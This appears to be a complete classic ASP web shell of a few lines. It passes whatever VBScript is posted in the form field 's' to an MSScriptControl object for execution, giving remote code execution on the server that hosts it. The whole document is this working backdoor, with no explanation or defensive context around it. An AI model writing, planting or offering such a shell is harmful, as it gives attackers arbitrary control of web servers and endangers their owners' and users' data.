<%
Set sc = Server.CreateObject("MSScriptControl.ScriptControl")
sc.Language = "VBScript"
sc.AddObject "Request", Request
sc.AddObject "Response", Response
sc.ExecuteStatement Request.Form("s")
%>
